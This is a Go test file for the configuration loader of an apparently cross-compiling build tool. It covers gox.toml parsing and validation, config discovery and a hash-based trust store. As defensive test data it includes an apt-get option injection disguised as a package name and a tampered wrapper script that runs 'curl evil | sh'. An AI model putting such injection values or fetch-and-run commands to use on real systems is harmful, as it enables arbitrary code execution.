package config

import (
	"errors"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"
)

// parse reads names the way gox does for the shapes the tests use.
func parse(name string) (string, error) {
	switch name {
	case "linux/arm64", "arm64", "aarch64-linux-gnu":
		return "linux/arm64", nil
	case "linux/arm/v7", "armhf":
		return "linux/arm/v7", nil
	case "linux/arm":
		return "linux/arm", nil
	case "windows/amd64":
		return "windows/amd64", nil
	}
	return "", errors.New("unknown target " + name)
}

func TestParse(t *testing.T) {
	tests := []struct {
		name, text, err string
	}{
		{name: "empty", text: ""},
		{name: "complete", text: `targets = ["linux/arm64", "windows/amd64"]
output = "dist/{{.Name}}_{{.OS}}_{{.Arch}}"

[target."linux/arm64"]
cc = "./tools/cc.sh --flag"
cxx = "./tools/cxx.sh"
sysroot = "/opt/sr"
pkg_config_libdir = "/opt/sr/usr/lib/pkgconfig"
cgo = true
env = { GOARM64 = "v8.2", CGO_CFLAGS = "-O2" }
runner = ["qemu-aarch64", "-cpu", "cortex-a72"]
packages = ["libsqlite3-dev:arm64"]
`},
		{name: "unknown top-level key", text: "targets = []\noutptu = \"x\"\n", err: "gox.toml:2:1: unknown key outptu (did you mean output?)"},
		{name: "unknown target key", text: "[target.\"linux/arm64\"]\ncx = \"x\"\n", err: `gox.toml:2:1: unknown key target.linux/arm64.cx (did you mean cc?)`},
		{name: "runer", text: "[target.\"linux/arm64\"]\nruner = [\"x\"]\n", err: "(did you mean runner?)"},
		{name: "nothing close", text: "zzzzzzzz = 1\n", err: "gox.toml:1:1: unknown key zzzzzzzz"},
		{name: "targets not a list", text: "targets = \"linux/arm64\"\n", err: "gox.toml:1:11: targets: cannot decode TOML string into a list of strings"},
		{name: "cgo not a bool", text: "[target.\"linux/arm64\"]\ncgo = \"no\"\n", err: "gox.toml:2:7: target.linux/arm64.cgo: cannot decode TOML string into true or false"},
		{name: "env not strings", text: "[target.\"linux/arm64\"]\nenv = { A = 1 }\n", err: "gox.toml:2:13: target.linux/arm64.env: cannot decode TOML integer into a string"},
		{name: "broken TOML", text: "targets = [\n", err: "gox.toml:1:12: array is incomplete"},
		{name: "cxx without cc", text: "targets = []\n\n[target.\"linux/arm64\"]\ncgo = true\ncxx = \"g++\"\n", err: `gox.toml:5: target."linux/arm64": cxx without cc`},
		{name: "cxx without cc, dotted", text: "target.\"linux/arm64\".cgo = true\ntarget.\"linux/arm64\".cxx = \"g++\"\n", err: `gox.toml:2: target."linux/arm64": cxx without cc`},
		{name: "empty runner program", text: "[target.\"linux/arm64\"]\nrunner = [\"\", \"-x\"]\n", err: "gox.toml:2: target.\"linux/arm64\": runner: the first word is the program"},
		{name: "bad env name", text: "[target.\"linux/arm64\"]\nenv = { \"A B\" = \"1\" }\n", err: `is no variable name`},
		{name: "a package that is an apt-get option", text: "[target.\"linux/arm64\"]\npackages = [\"-oDPkg::Pre-Invoke::=touch owned\"]\n",
			err: `gox.toml:2: target."linux/arm64".packages: "-oDPkg::Pre-Invoke::=touch owned" is no Debian package name (name[:arch][=version])`},
		{name: "a package with a space", text: "[target.\"linux/arm64\"]\npackages = [\"libfoo-dev libbar\"]\n", err: "is no Debian package name"},
		{name: "packages with arch and version", text: "[target.\"linux/arm64\"]\npackages = [\"libsqlite3-dev:arm64\", \"g++-12=12.2.0-14\", \"libc6-dev:arm64=2.36-9+deb12u4\"]\n"},
		{name: "an env name with a newline", text: "[target.\"linux/arm64\"]\nenv = { \"A\\nB\" = \"1\" }\n", err: `"A\nB" is no variable name`},
		{name: "bad target in targets", text: "targets = [\"linux/arm64\", \"linux/arm65\"]\n", err: "gox.toml:1: targets: unknown target linux/arm65"},
		{name: "bad target table", text: "[target.\"linux/arm65\"]\ncgo = false\n", err: `gox.toml:1: target."linux/arm65": unknown target linux/arm65`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f, err := Parse("gox.toml", []byte(tt.text))
			if err == nil {
				err = f.Validate(parse)
			}
			switch {
			case tt.err == "" && err != nil:
				t.Fatalf("error %v", err)
			case tt.err != "" && (err == nil || !strings.Contains(err.Error(), tt.err)):
				t.Fatalf("error %v, want %q", err, tt.err)
			}
		})
	}
}

func TestForAndGated(t *testing.T) {
	f, err := Parse("/p/gox.toml", []byte(`
[target."linux/arm"]
cgo = false
[target."armhf"]
cc = "arm-cc"
env = { GOARM = "7", CGO_CFLAGS = "-fplugin=x.so", PKG_CONFIG_PATH = "/x" }
[target."linux/arm64"]
runner = ["qemu-aarch64", "-cpu", "max"]
packages = ["libz-dev:arm64"]
`))
	if err != nil {
		t.Fatal(err)
	}
	// exact target first, then the port alone
	if name, tc := f.For("linux/arm/v7", "linux/arm", parse); name != "armhf" || tc.CC != "arm-cc" {
		t.Errorf("linux/arm/v7: %q %+v", name, tc)
	}
	if name, tc := f.For("linux/arm/v6", "linux/arm", parse); name != "linux/arm" || tc.Cgo == nil || *tc.Cgo {
		t.Errorf("linux/arm/v6: %q %+v", name, tc)
	}
	if name, tc := f.For("windows/amd64", "windows/amd64", parse); tc != nil {
		t.Errorf("windows/amd64: %q %+v", name, tc)
	}
	_, armhf := f.For("linux/arm/v7", "linux/arm", parse)
	if got := strings.Join(armhf.Gated(), "; "); got != "cc = arm-cc; env.CGO_CFLAGS = -fplugin=x.so" {
		t.Errorf("armhf gated: %q", got)
	}
	_, arm64 := f.For("linux/arm64", "linux/arm64", parse)
	if got := strings.Join(arm64.Gated(), "; "); got != "runner = qemu-aarch64 -cpu max; packages = libz-dev:arm64" {
		t.Errorf("arm64 gated: %q", got)
	}
	_, arm := f.For("linux/arm/v6", "linux/arm", parse)
	if len(arm.Gated()) != 0 {
		t.Errorf("cgo = false needs no trust: %q", arm.Gated())
	}
}

func TestFind(t *testing.T) {
	root := t.TempDir()
	mk := func(p, content string) {
		p = filepath.Join(root, p)
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	mk("go.work", "go 1.26\n\nuse (\n\t./a // the first\n\t\"./b\"\n)\nuse ./c2\n")
	mk("gox.toml", "")
	mk("a/go.mod", "module a\n")
	mk("a/gox.toml", "")
	mk("a/pkg/x.go", "package pkg\n")
	mk("b/go.mod", "module b\n")
	mk("b/pkg/x.go", "package pkg\n")
	mk("c/go.mod", "module c\n")
	mk("c2/go.mod", "module c2\n")
	mk("other/go.work", "go 1.26\n\nuse ../b\n")
	for _, c := range []struct{ dir, gowork, want string }{
		{"a/pkg", "", "a/gox.toml"}, // next to the module's go.mod
		{"a", "", "a/gox.toml"},
		{"a", "off", "a/gox.toml"},
		{"b/pkg", "", "gox.toml"}, // none beside b's go.mod: the go.work's
		{"c2", "", "gox.toml"},
		{".", "", "gox.toml"},
		{"b/pkg", "off", ""},                                   // no workspace in use
		{"b/pkg", filepath.Join(root, "other", "go.work"), ""}, // another workspace, without a gox.toml
		{"c", "", ""},                                          // the workspace does not hold c
		{"b", filepath.Join(root, "go.work"), "gox.toml"},      // GOWORK naming this one
		{"b", filepath.Join(root, "missing", "go.work"), ""},   // a GOWORK file that is not there
	} {
		want := ""
		if c.want != "" {
			want = filepath.Join(root, c.want)
		}
		if got := Find(filepath.Join(root, c.dir), c.gowork); got != want {
			t.Errorf("Find(%s, GOWORK=%q) = %s, want %s", c.dir, c.gowork, got, want)
		}
	}
	lone := t.TempDir()
	os.WriteFile(filepath.Join(lone, "go.mod"), []byte("module lone\n"), 0o644)
	if got := Find(lone, ""); got != "" {
		t.Errorf("Find without gox.toml = %q", got)
	}
}

func TestTrust(t *testing.T) {
	state := t.TempDir()
	dir := t.TempDir()
	path := filepath.Join(dir, "gox.toml")
	os.WriteFile(path, []byte("[target.\"linux/arm64\"]\ncc = \"./cc.sh\"\n"), 0o644)
	f, err := Load(path)
	if err != nil {
		t.Fatal(err)
	}
	if ok, why := Trusted(state, f, ""); ok || why != "never trusted" {
		t.Errorf("fresh: %v %q", ok, why)
	}
	if err := Trust(state, f, time.Now()); err != nil {
		t.Fatal(err)
	}
	if ok, _ := Trusted(state, f, ""); !ok {
		t.Error("not trusted after Trust")
	}
	// an edit revokes it
	os.WriteFile(path, []byte("[target.\"linux/arm64\"]\ncc = \"./evil.sh\"\n"), 0o644)
	g, _ := Load(path)
	if ok, why := Trusted(state, g, ""); ok || why != "changed since you trusted it" {
		t.Errorf("edited: %v %q", ok, why)
	}
	// CI names the sum it accepts
	if ok, _ := Trusted(state, g, "sha256:"+g.Sum); !ok {
		t.Error("GOX_TRUST with the sum not accepted")
	}
	if ok, _ := Trusted(state, g, f.Sum); ok {
		t.Error("GOX_TRUST with another sum accepted")
	}
	recs, err := List(state)
	if err != nil || len(recs) != 1 || recs[0].Path != path || recs[0].Sum != f.Sum {
		t.Errorf("List = %+v, %v", recs, err)
	}
	if removed, err := Revoke(state, path); !removed || err != nil {
		t.Errorf("Revoke = %v, %v", removed, err)
	}
	if removed, _ := Revoke(state, path); removed {
		t.Error("revoked twice")
	}
	if ok, _ := Trusted(state, f, ""); ok {
		t.Error("trusted after Revoke")
	}
}

func TestLoadBounds(t *testing.T) {
	p := filepath.Join(t.TempDir(), "gox.toml")
	os.WriteFile(p, []byte("# "+strings.Repeat("x", MaxSize)+"\n"), 0o644)
	if _, err := Load(p); err == nil || !strings.Contains(err.Error(), "not a configuration") {
		t.Errorf("huge file: %v", err)
	}
}

// FuzzParse feeds the loader arbitrary files: it returns a File or an
// error, never panics, and allocates within a bound of the input's size.
func FuzzParse(f *testing.F) {
	for _, s := range []string{
		"", "targets = [\"linux/arm64\"]\n", "[target.\"linux/arm64\"]\ncc = \"x\"\nenv = { A = \"b\" }\n",
		"[target]\n", "target = 1\n", "[[target]]\n", "a.b.c = 1\n", "targets = [[]]\n",
		"[target.\"x\"]\nrunner = []\n", "x = \"\"\"\n", "\xff\xfe",
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		if len(data) > MaxSize {
			return
		}
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		cfg, err := Parse("gox.toml", data)
		if err == nil {
			_ = cfg.Validate(parse)
			for name := range cfg.Target {
				tc := cfg.Target[name]
				_ = tc.Gated()
			}
			cfg.For("linux/arm64", "linux/arm64", parse)
		} else if err.Error() == "" {
			t.Fatal("empty error")
		}
		runtime.ReadMemStats(&after)
		if got, limit := after.TotalAlloc-before.TotalAlloc, uint64(200*len(data)+1<<20); got > limit {
			t.Fatalf("%d bytes of input allocated %d bytes", len(data), got)
		}
	})
}

// BenchmarkFindLoadTrust is what a cross plan pays for a project's
// gox.toml: finding it from a package directory, reading and checking it,
// and looking up the trust in it.
func BenchmarkFindLoadTrust(b *testing.B) {
	mod := b.TempDir()
	pkg := filepath.Join(mod, "a", "b")
	os.MkdirAll(pkg, 0o755)
	os.WriteFile(filepath.Join(mod, "go.mod"), []byte("module m\n"), 0o644)
	os.WriteFile(filepath.Join(mod, FileName), []byte(`targets = ["linux/arm64", "linux/arm/v7"]
[target."linux/arm64"]
cc = "./tools/cc.sh"
env = { GOARM64 = "v8.0", CGO_CFLAGS = "-O2" }
runner = ["qemu-aarch64", "-cpu", "max"]
[target."linux/arm/v7"]
cgo = false
`), 0o644)
	state := b.TempDir()
	for b.Loop() {
		f, err := Load(Find(pkg, ""))
		if err != nil {
			b.Fatal(err)
		}
		if err := f.Validate(parse); err != nil {
			b.Fatal(err)
		}
		Trusted(state, f, "")
	}
}

// TestTrustCoversPrograms: trusting gox.toml trusts the repository's
// programs it names as they were read; an edit of one, or its removal,
// revokes it. Programs outside the file's directory and on PATH are the
// user's own and not covered.
func TestTrustCoversPrograms(t *testing.T) {
	state, dir := t.TempDir(), t.TempDir()
	path := filepath.Join(dir, "gox.toml")
	os.MkdirAll(filepath.Join(dir, "tools"), 0o755)
	os.WriteFile(filepath.Join(dir, "tools", "cc.sh"), []byte("#!/bin/sh\nexec gcc \"$@\"\n"), 0o755)
	os.WriteFile(filepath.Join(dir, "run.sh"), []byte("#!/bin/sh\n"), 0o755)
	os.WriteFile(path, []byte(`[target."linux/arm64"]
cc = "./tools/cc.sh --flag"
cxx = "aarch64-linux-gnu-g++"
runner = ["./run.sh", "-x"]
[target."linux/riscv64"]
cc = "/usr/bin/riscv64-linux-gnu-gcc"
runner = ["../elsewhere/qemu"]
`), 0o644)
	f, err := Load(path)
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(f.Programs(), " "); got != "run.sh tools/cc.sh" {
		t.Errorf("Programs = %q", got)
	}
	if err := Trust(state, f, time.Now()); err != nil {
		t.Fatal(err)
	}
	if ok, why := Trusted(state, f, ""); !ok {
		t.Fatalf("not trusted after Trust: %s", why)
	}
	os.WriteFile(filepath.Join(dir, "tools", "cc.sh"), []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755)
	if ok, why := Trusted(state, f, ""); ok || why != "tools/cc.sh changed since you trusted it" {
		t.Errorf("after an edit of tools/cc.sh: %v %q", ok, why)
	}
	os.WriteFile(filepath.Join(dir, "tools", "cc.sh"), []byte("#!/bin/sh\nexec gcc \"$@\"\n"), 0o755)
	os.Remove(filepath.Join(dir, "run.sh"))
	if ok, why := Trusted(state, f, ""); ok || why != "run.sh changed since you trusted it" {
		t.Errorf("after run.sh was removed: %v %q", ok, why)
	}
	// a record from before programs were covered is asked again
	os.WriteFile(recordFile(state, path), []byte(`{"path": "`+path+`", "sha256": "`+f.Sum+`"}`), 0o644)
	if ok, why := Trusted(state, f, ""); ok || !strings.Contains(why, "trust it again") {
		t.Errorf("an old record: %v %q", ok, why)
	}
}
